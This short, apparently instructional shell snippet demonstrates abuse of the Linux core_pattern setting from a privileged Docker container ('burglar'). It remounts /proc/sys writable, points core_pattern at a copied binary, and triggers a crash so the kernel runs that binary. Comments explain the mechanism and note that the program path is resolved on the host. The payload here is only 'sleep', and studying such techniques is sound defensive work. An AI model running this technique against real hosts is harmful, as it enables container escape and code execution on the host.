# The program that the pattern names is in the container, and the kernel looks for it on the host.
# says: burglar can write to the kernel's settings. The kernel has started nothing for it yet: something has to crash.
docker run -d --name burglar --cap-add SYS_ADMIN --security-opt apparmor=unconfined alpine sleep 3600
docker exec burglar sh -c 'mount -o remount,rw /proc/sys && cp /bin/busybox /loot && echo "|/loot sleep 3600" > /proc/sys/kernel/core_pattern'
docker exec -d burglar sh -c 'kill -SEGV $$'
